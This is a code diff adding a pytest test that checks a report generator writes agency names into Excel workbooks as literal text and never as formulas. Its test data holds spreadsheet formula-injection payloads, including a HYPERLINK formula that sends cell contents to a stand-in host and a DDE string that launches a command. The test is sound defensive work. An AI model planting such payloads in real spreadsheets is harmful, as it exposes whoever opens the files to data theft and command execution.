@@ -3,13 +3,15 @@
 from __future__ import annotations
 
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
+import duckdb
 import openpyxl
 import pytest
 
 from kzeval.reports.build import build_agency_report, build_national_report
-from kzeval.reports.data import Snapshot
+from kzeval.reports.data import Snapshot, load_snapshot
 from kzeval.reports.xlsx import write_agency_xlsx, write_national_xlsx
 
 
@@ -147,3 +149,53 @@ def test_national_workbook(national_path: Path) -> None:
 
     with zipfile.ZipFile(national_path) as z:  # the native tier chart (openpyxl does not load charts)
         assert any(name.startswith("xl/charts/chart") for name in z.namelist())
+
+
+# Names a source system may deliver that a spreadsheet would run as formulas if written as such
+# (issue 16 item 4): every prefix Excel and LibreOffice treat as the start of a formula.
+HOSTILE_NAMES = {
+    "CGO-A": '=HYPERLINK("http://example.invalid/?leak="&A1,"Министерство А")',
+    "CGO-B": "+1+cmd|' /C calc'!A0",
+    "CGO-C": "-2+3",
+    "MIO-35": "@SUM(1+1)",
+    "MIO-71": "=1+1",
+}
+
+
+def _hostile_snapshot(make_warehouse: Callable[..., Path]) -> Snapshot:
+    path = make_warehouse("hostile.duckdb")
+    with duckdb.connect(str(path)) as con:
+        for agency, name in HOSTILE_NAMES.items():
+            con.execute("UPDATE marts.dim_agencies SET name_ru = ? WHERE agency_id = ?", [name, agency])
+    return load_snapshot(path, 2024)
+
+
+def _cells(path: Path) -> list[tuple[str, str, object, str]]:
+    book = openpyxl.load_workbook(path)  # formulas are kept as formulas (data_type "f"), not evaluated
+    return [
+        (ws.title, cell.coordinate, cell.value, cell.data_type)
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+
+
+def test_hostile_names_are_text_in_every_workbook(make_warehouse: Callable[..., Path], tmp_path: Path) -> None:
+    snapshot = _hostile_snapshot(make_warehouse)
+    written = [
+        write_agency_xlsx(build_agency_report(snapshot, agency), tmp_path / f"{agency}.xlsx")
+        for agency in HOSTILE_NAMES
+    ]
+    written.append(write_national_xlsx(build_national_report(snapshot), tmp_path / "national.xlsx"))
+    for path in written:
+        cells = _cells(path)
+        formulas = [c for c in cells if c[3] == "f"]
+        assert not formulas, f"{path.name}: formula cells {formulas[:5]}"
+        texts = {str(c[2]) for c in cells if c[3] in ("s", "inlineStr")}
+        shown = [name for name in HOSTILE_NAMES.values() if any(name in t for t in texts)]
+        assert shown, f"{path.name}: no hostile name written at all (the test would prove nothing)"
+    # the body's name heads each form sheet (row 3, merged) as the literal text
+    agency_cells = _cells(written[0])
+    heads = [c for c in agency_cells if c[1] == "A3" and c[0] not in ("Сводка", "Показатели")]
+    assert heads and all(c[2] == HOSTILE_NAMES["CGO-A"] and c[3] == "s" for c in heads)
